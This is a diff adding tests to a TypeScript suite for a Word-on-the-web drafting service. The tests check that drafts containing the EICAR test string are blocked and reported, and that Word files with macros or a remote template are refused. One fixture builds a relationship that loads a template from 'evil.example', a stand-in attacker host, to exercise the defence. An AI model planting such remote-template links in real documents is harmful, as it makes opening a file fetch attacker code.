@@ -1,10 +1,14 @@
 import assert from "node:assert/strict";
+import { createProcessInspection } from "../../../src/adapters/inspection/process-inspection.ts";
 import { RuleBroken } from "../../../src/domain/rule-broken.ts";
 import { ArchiveUnavailable } from "../../../src/ports/archive.ts";
 import { followAllChanges } from "../../../src/usecases/archive/follow-changes.ts";
 import { editDraft } from "../../../src/usecases/drafts/edit-draft.ts";
 import { followDrafts } from "../../../src/usecases/drafts/follow-draft.ts";
 import { withdrawDraft } from "../../../src/usecases/drafts/withdraw-draft.ts";
+import { eicar } from "../../support/clamd.ts";
+import { scannerDouble } from "../../support/scanner-double.ts";
+import { makeOffice } from "../../support/zip-fixture.ts";
 import type { DraftWorld } from "./draft-world.ts";
 import { draftsInWord } from "./drafts-in-word.ts";
 
@@ -112,6 +116,61 @@ describe("a draft in Word on the web", () => {
     assert.equal(detail.editing, "offered");
     assert.equal(detail.history.at(-1)?.action, "draft.versionRefused");
     assert.deepEqual(await world.services.store.read.uploads.after(null, 10), []);
+  });
+
+  it("keeps malware that was written in Word from everybody, and tells who answers for it (R59)", async () => {
+    const { planner, administrator } = world.people;
+    const scanner = scannerDouble();
+    const services = { ...world.services, scanner };
+    const id = await world.start(planner);
+    await editDraft(services, planner, id);
+    const item = await itemOf(id);
+    await write(id, `bản sửa ${eicar}`);
+    await followAllChanges(services, { budgetMs: 10_000 });
+    scanner.fault = "away";
+    assert.deepEqual(await followDrafts(services), { taken: 0, later: 1 }, "unscanned it is not taken over");
+    assert.deepEqual(await services.store.read.uploads.after(null, 10), []);
+    scanner.fault = null;
+    world.files.clock.set(new Date(world.files.clock.now().getTime() + 120_000));
+    assert.deepEqual(await followDrafts(services), { taken: 0, later: 0 });
+    assert.equal(item.gone, "purged", "nobody opens it in SharePoint any more");
+    const detail = await world.read(planner, id);
+    assert.deepEqual([detail.latest, detail.history.at(-1)?.action], [1, "draft.versionRefused"]);
+    const [kept] = await services.store.read.uploads.after(null, 10);
+    assert.deepEqual([kept?.state, kept?.scan.state], ["blocked", "infected"]);
+    const { agency } = world.files.people;
+    const cards = await services.store.read.deliveries.list(agency.id, { after: null, limit: 100 });
+    const told = cards.filter(({ reason }) => reason === "malwareFound").map(({ personName }) => personName);
+    assert.deepEqual(told.toSorted(), [administrator.name, planner.name].toSorted());
+    assert.ok(cards.some(({ reason }) => reason === "draftVersionRefused"));
+  });
+
+  it("refuses what does something when it is opened, by what the gate finds in the bytes (macros, a fetched template)", async () => {
+    const { planner } = world.people;
+    const inspection = createProcessInspection({ processes: 1 });
+    const services = { ...world.services, inspection };
+    const macros = makeOffice("docx", ["A"], [{ name: "word/vbaProject.bin", content: "x" }]);
+    const link =
+      '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
+    const fetched = makeOffice("docx", ["A"], [{ name: "word/_rels/settings.xml.rels", content: link }]);
+    try {
+      for (const [bytes, code] of [
+        [macros, "intake.macros"],
+        [fetched, "intake.remote-template"],
+      ] as const) {
+        const id = await world.start(planner);
+        await editDraft(services, planner, id);
+        const item = await itemOf(id);
+        await write(id, bytes);
+        await followAllChanges(services, { budgetMs: 10_000 });
+        assert.equal((await followDrafts(services)).taken, 0);
+        assert.equal(item.gone, "purged");
+        const entries = await services.store.read.audit.ofDocument(id);
+        assert.equal(entries.at(-1)?.data["code"], code);
+      }
+    } finally {
+      await inspection.close();
+    }
   });
 
   it("takes the item away once the draft has ended, with what was written until then taken over", async () => {
